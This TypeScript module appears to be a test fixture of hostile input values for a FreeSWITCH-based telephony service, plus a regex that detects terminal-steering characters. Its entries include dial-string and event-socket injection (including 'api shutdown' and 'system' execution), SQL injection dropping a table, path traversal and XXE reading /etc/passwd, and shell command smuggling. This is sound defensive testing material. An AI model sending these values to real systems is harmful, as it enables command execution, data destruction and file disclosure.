/** Values that mean something to whatever they could reach, by what they are made for. */
export const HOSTILE_VALUES: Readonly<Record<string, string>> = {
  'a further leg of a dial string': '13800138000|error/USER_BUSY',
  'a second destination': '13800138000,sofia/gateway/east/13900139000',
  'variables for all legs': '{origination_caller_id_number=13900139000}13800138000',
  'variables for a leg': '[sip_h_X-Number=13900139000]13800138000',
  'the end of variables': 'x}]sofia/gateway/east/13900139000',
  'a loopback dial string': '13800138000/default&bridge(loopback/1)',
  'an expression of a channel': '$\u007bcaller_id_number}',
  'an expression of the API': '$\u007bsystem(id)}',
  'an expression of the configuration': '$$\u007bpassword}',
  'a quote of FreeSWITCH': "x' y",
  'an escape of FreeSWITCH': 'a\\sb\\nc',
  'another delimiter of FreeSWITCH': '^^:a=b:c=d',
  'a header of the event socket': 'x\nexecute-app-name: system',
  'a command of the event socket': 'x\n\napi shutdown\n\n',
  'a header with CR': 'x\r\nContent-Length: 0\r\n\r\n',
  'the end of a C string': '13800138000\0sofia/gateway/east/1',
  'SQL in quotes': "x'; DROP TABLE binding; --",
  'SQL in double quotes': 'x" OR ""="',
  'a wildcard of SQL': '%_*?[a-z]',
  'a path upwards': '../../../../etc/passwd',
  'an absolute path': '/etc/passwd',
  'a path with NUL': 'x\0.wav',
  'an option of a program': '--config=/tmp/x',
  'a command of a shell': '$(touch /tmp/x)`id`;id|id&id',
  'a title for a terminal': '\u001b]0;owned\u0007',
  'colours and a cursor': '\u001b[2J\u001b[31m',
  'a control of eight bits': '\u009b2J',
  'a backspace': 'safe\b\b\b\bevil',
  'a turned direction': '\u202emoc.elpmaxe',
  'a line of a log': 'x"}\n{"level":50,"msg":"forged"}',
  'a line separator': 'x\u2028y\u2029z',
  'a formula of a spreadsheet': '=HYPERLINK("http://example.com/"&A1)',
  'a cell of CSV': 'x","y"\r\n"z',
  'a tag of XML': '"/><param name="apply-inbound-acl" value="any"/><x a="',
  'a tag of a preprocessor': '<X-PRE-PROCESS cmd="exec" data="id"/>',
  'an entity of XML': '&xxe;<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
  'a label of a metric': 'x"} 1\nforged_total{a="',
  'a key of an object': '__proto__',
  'half of a character': 'x\ud800',
  'very much of it': 'x'.repeat(5_000),
};

/** Those of them that a database can hold: SQLite's text is UTF-8. */
export const WELL_FORMED_VALUES = Object.entries(HOSTILE_VALUES).filter(([, value]) => value.isWellFormed());

/** What moves a cursor, changes colours or turns text around in a terminal, beside the line feed. */
export const STEERING = /[^\P{Cc}\n]|[\u2028\u2029\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]|\p{Cs}/u;
